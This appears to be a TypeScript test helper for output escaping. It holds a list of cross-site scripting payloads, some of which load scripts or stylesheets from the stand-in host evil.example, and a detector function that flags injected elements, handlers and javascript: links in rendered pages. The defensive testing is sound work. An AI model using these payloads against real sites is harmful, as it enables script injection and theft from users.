/** What attackers type into fields that are shown again. None of it may come out as anything but words. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</select><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<form action=//evil.example><button>x',
  '<input autofocus onfocus=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '" style="background:url(//evil.example)',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT/SRC=//evil.example/x.js></SCRIPT>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<custom-element onclick=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '\u202ealert(1)\u202c<script>',
  '`\'"><img src=x onerror=alert(1)>',
];

/** Elements that no page of ours has; markup with one of them was brought in by a payload. */
const foreign =
  /<(?:script(?! type="module" src="\/assets\/)|img(?! class="sp-header__logo")|iframe|object|embed|base|style|math|marquee|video|template|noscript|custom-element|animate)\b/i;

/** What in a page would run or load something that is not ours; undefined where it is clean. */
export function brokenOut(html: string): string | undefined {
  const found = foreign.exec(html) ?? /<[^>]*\s(?:on\w+|style|srcdoc)\s*=/i.exec(withoutValues(html));
  const link = /(?:href|src|action)="\s*(?:javascript|data|vbscript):/i.exec(html);
  return found?.[0] ?? link?.[0];
}

/** Tags without the values of their attributes: what a value says does not run. */
const withoutValues = (html: string): string => html.replaceAll(/="[^"]*"/g, '=""');
